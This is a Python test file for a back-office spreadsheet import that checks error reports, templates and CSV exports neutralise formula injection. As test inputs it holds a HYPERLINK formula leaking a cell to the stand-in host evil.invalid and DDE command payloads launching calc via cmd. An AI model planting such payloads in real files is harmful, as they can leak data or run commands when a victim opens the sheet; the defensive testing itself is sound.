"""Files given back to users: error report, template, CSV; nothing becomes a live formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from flask_babel import lazy_gettext as _l

from backoffice.importing import (
    FileRefused,
    Problem,
    ValidatedRow,
    ValidationContext,
    error_report_xlsx,
    read_table,
    rows_csv,
    safe_cell,
    template_xlsx,
    validate_rows,
)
from backoffice.rules.eligibility import AgeBounds

LEVELS = frozenset([1_000_000, 1_500_000, 2_000_000, 20_700_000])
#: The registration ages of the reference data (migration 0013).
AGES = AgeBounds(15, 65)
CTX = ValidationContext(
    registration_date=date(2025, 1, 15),
    known_regencies=frozenset({"3604", "3673"}),
    income_levels=LEVELS,
    registration_ages=AGES,
)
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A2,"Klik")'
UPLOAD = (
    "No;NIK;Nama Lengkap;Tanggal Lahir;Jenis Kelamin;No HP;Penghasilan;Program\r\n"
    "1;3604011708900001;Budi Santoso;17/08/1990;L;081234567890;1.000.000;JKK, JKM\r\n"
    f'2;3.60401E+15;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";17/08/1990;L;;1.000.000;JKK, JKM\r\n'
    "3;3673015203850002;@SUM(1+1)*cmd|' /C calc'!A0;12/03/1985;L;+62 812;2.500.000;JKK\r\n"
    "4;3604011708900009;#N/A;17/08/1990;L;;1000000;JKK,JKM,JP\r\n"
).encode()


def validated() -> tuple[list[str], list[ValidatedRow]]:
    table = read_table(UPLOAD, "peserta.csv")
    return table.headers, list(validate_rows(table.rows(), CTX))


def sheet_xml(data: bytes, name: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode("utf-8")


# --- safe_cell ------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\tx", "\rx", " =1+1", "＝1+1", HYPERLINK]
)
def test_formula_like_text_is_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Budi", "", "0812", "3604011708900001", "a=b", 5, -5, 1.5, None, date(2025, 1, 1)]
)
def test_other_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


# --- rows_csv -------------------------------------------------------------------------


def test_rows_csv_neutralises_formulas_and_formats_values() -> None:
    text = rows_csv(
        ["NIK", "Nama Lengkap", "Tanggal Lahir", "Program", "Penghasilan", "Catatan"],
        [
            [
                "3604011708900001",
                "=cmd|' /C calc'!A0",
                date(1990, 8, 17),
                frozenset({"JKM", "JKK"}),
                1_000_000,
                None,
            ],
            ["3673015203850002", "Siti; Aminah", datetime(1985, 3, 12), "JKK, JKM", -5, "-1+1"],
        ],
    )
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == [
        "3604011708900001",
        "'=cmd|' /C calc'!A0",
        "17/08/1990",
        "JKK, JKM",
        "1000000",
        "",
    ]
    assert rows[2] == ["3673015203850002", "Siti; Aminah", "12/03/1985", "JKK, JKM", "-5", "'-1+1"]


def test_rows_csv_headers_are_neutralised_too_and_delimiter_is_configurable() -> None:
    text = rows_csv(["=A1", "B"], [["x", "y"]], delimiter=",")
    assert text.splitlines() == ["'=A1,B", "x,y"]


# --- error report ---------------------------------------------------------------------------


def test_error_report_has_the_original_headers_and_a_kesalahan_column() -> None:
    headers, rows = validated()
    report = error_report_xlsx(headers, [row for row in rows if not row.valid])
    sheet = openpyxl.load_workbook(io.BytesIO(report)).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == (*headers, "Kesalahan")
    assert [row[0] for row in values[1:]] == ["2", "3", "4"]  # the "No" column, as uploaded
    errors = values[1][-1]
    assert errors.startswith("NIK: The spreadsheet turned this NIK into a number")
    third = values[2][-1]
    assert third.startswith("NIK: The NIK is a woman's")
    for column in ("No HP", "Penghasilan", "Program"):
        assert f"; {column}: " in third


def test_error_report_keeps_every_problem_of_a_row() -> None:
    headers, rows = validated()
    report = error_report_xlsx(headers, rows)
    sheet = openpyxl.load_workbook(io.BytesIO(report)).worksheets[0]
    row = list(sheet.iter_rows(min_row=3, max_row=3, values_only=True))[0]
    problems = next(r for r in rows if r.number == 4).problems
    assert row[-1] == "; ".join(f"{p.column}: {p.message}" for p in problems)
    assert len(problems) >= 3


def test_formula_like_cells_are_stored_as_strings_never_formulas() -> None:
    headers, rows = validated()
    report = error_report_xlsx(headers, rows)
    xml = sheet_xml(report)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(report)).worksheets[0]
    names = {
        sheet.cell(row=r, column=3).value: sheet.cell(row=r, column=3)
        for r in range(2, sheet.max_row + 1)
    }
    assert HYPERLINK in names
    for text in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "#N/A"):
        assert names[text].data_type == "s", text
    # Excel keeps a quote-prefixed cell as text even when it is edited.
    assert names[HYPERLINK].quotePrefix


def test_nik_and_phone_columns_are_formatted_as_text() -> None:
    headers, rows = validated()
    sheet = openpyxl.load_workbook(io.BytesIO(error_report_xlsx(headers, rows))).worksheets[0]
    nik_column = headers.index("NIK") + 1
    assert sheet.cell(row=2, column=nik_column).value == "3.60401E+15"
    for r in range(2, sheet.max_row + 1):
        assert sheet.cell(row=r, column=nik_column).number_format == "@"


def test_valid_rows_are_left_out_of_the_error_report() -> None:
    headers, rows = validated()
    sheet = openpyxl.load_workbook(io.BytesIO(error_report_xlsx(headers, rows))).worksheets[0]
    assert sheet.max_row == 1 + sum(1 for row in rows if not row.valid)


def test_error_report_survives_control_characters_short_and_long_rows() -> None:
    rows = [
        ValidatedRow(2, None, [], ["3604\x0b011708900001", "Bu\x01di"]),  # short row
        ValidatedRow(3, None, [], ["a", "b", "c", "d"]),  # longer than the headers
    ]
    for row in rows:
        row.problems.append(Problem("NIK", _l("The NIK is empty.")))
    sheet = openpyxl.load_workbook(
        io.BytesIO(error_report_xlsx(["NIK", "Nama Lengkap", "Alamat"], rows))
    ).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[1] == ("3604011708900001", "Budi", None, "NIK: The NIK is empty.")
    assert values[2] == ("a", "b", "c", "NIK: The NIK is empty.")


def test_error_report_dates_and_numbers_keep_their_type() -> None:
    row = ValidatedRow(2, None, [], [3604011708900001, datetime(1990, 8, 17), 1000000])
    row.problems.append(Problem("NIK", _l("The NIK is empty.")))
    sheet = openpyxl.load_workbook(
        io.BytesIO(error_report_xlsx(["NIK", "Tanggal Lahir", "Penghasilan"], [row]))
    ).worksheets[0]
    nik, born, income = (sheet.cell(row=2, column=c) for c in (1, 2, 3))
    assert nik.value == 3604011708900001 and nik.number_format == "@"
    assert born.value == datetime(1990, 8, 17) and born.number_format == "DD/MM/YYYY"
    assert income.value == 1000000


def test_fixed_error_report_can_be_uploaded_again() -> None:
    headers, rows = validated()
    report = error_report_xlsx(headers, rows)
    table = read_table(report, "perbaikan.xlsx")
    assert table.ignored_columns == ["No", "Kesalahan"]
    again = list(validate_rows(table.rows(), CTX))
    assert [row.number for row in again] == [2, 3, 4]
    # The formula-like name comes back exactly as it was uploaded.
    assert again[0].original[2] == HYPERLINK


# --- template ---------------------------------------------------------------------------------


def test_template_has_the_eleven_headers_in_order_and_text_columns() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx(LEVELS, ages=AGES)))
    sheet = workbook.worksheets[0]
    assert sheet.title == "Peserta"
    assert [cell.value for cell in sheet[1]] == [
        "NIK",
        "Nama Lengkap",
        "Tanggal Lahir",
        "Jenis Kelamin",
        "Alamat",
        "No HP",
        "Pekerjaan",
        "Penghasilan",
        "Program",
        "Kabupaten/Kota Domisili",
        "Sektor",
    ]
    assert sheet.column_dimensions["A"].number_format == "@"  # NIK
    assert sheet.column_dimensions["F"].number_format == "@"  # No HP
    assert sheet.column_dimensions["A"].width >= 18
    assert sheet.freeze_panes == "A2"


def test_template_petunjuk_sheet_lists_formats_and_income_levels() -> None:
    workbook = openpyxl.load_workbook(
        io.BytesIO(template_xlsx([2_000_000, 1_000_000, 20_700_000], ages=AGES))
    )
    guide = workbook["Petunjuk"]
    text = "\n".join(str(row[0]) for row in guide.iter_rows(values_only=True) if row[0] is not None)
    assert "dd/mm/yyyy" in text
    assert "L (laki-laki) atau P (perempuan)" in text
    assert '"JKK, JKM"' in text and '"JKK, JKM, JHT"' in text
    levels = [row[0] for row in guide.iter_rows(values_only=True) if isinstance(row[0], int)]
    assert levels == [1_000_000, 2_000_000, 20_700_000]


def test_template_headers_are_recognised_by_the_reader() -> None:
    with pytest.raises(FileRefused) as caught:
        read_table(template_xlsx(LEVELS, ages=AGES), "template.xlsx")
    # Every column is found; only the data is missing.
    assert caught.value.code == "no_data"
